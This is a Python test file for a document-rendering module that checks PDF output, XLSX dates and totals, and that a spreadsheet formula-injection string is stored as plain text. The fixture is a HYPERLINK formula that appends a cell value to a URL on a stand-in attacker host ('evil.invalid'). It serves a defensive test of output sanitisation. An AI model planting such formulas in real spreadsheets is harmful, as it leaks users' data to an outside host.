import io
import zipfile
from datetime import date
from decimal import Decimal

from python_calamine import CalamineWorkbook

from polku.core.documents import Sheet, pdf_render, xlsx_render


def test_pdf_render__gives_a_pdf_document() -> None:
    content = pdf_render("documents/base.html", {})

    assert content.startswith(b"%PDF-")


def test_xlsx_render__writes_dates_money_and_totals_that_read_back() -> None:
    content = xlsx_render(
        [
            Sheet(
                title="Osallistujat",
                headings=["Päivä", "Summa"],
                rows=[(date(2026, 1, 5), Decimal("10.50")), (date(2026, 1, 6), Decimal("3.25"))],
                totals=("Yhteensä", Decimal("13.75")),
            )
        ]
    )

    rows = (
        CalamineWorkbook.from_filelike(io.BytesIO(content))
        .get_sheet_by_name("Osallistujat")
        .to_python()
    )
    assert rows[0] == ["Päivä", "Summa"]
    assert rows[1][1] == 10.5
    assert rows[3] == ["Yhteensä", 13.75]


def test_xlsx_render__writes_formula_and_link_like_text_as_plain_text() -> None:
    attack = '=HYPERLINK("https://evil.invalid/?"&B2,"Avaa")'
    content = xlsx_render(
        [Sheet(title="Lista", headings=["Nimi", "Linkki"], rows=[(attack, "https://x.invalid")])]
    )

    with zipfile.ZipFile(io.BytesIO(content)) as workbook:
        sheet = workbook.read("xl/worksheets/sheet1.xml").decode()
        assert "<f>" not in sheet
        assert "hyperlink" not in sheet
    rows = CalamineWorkbook.from_filelike(io.BytesIO(content)).get_sheet_by_name("Lista")
    assert rows.to_python()[1] == [attack, "https://x.invalid"]
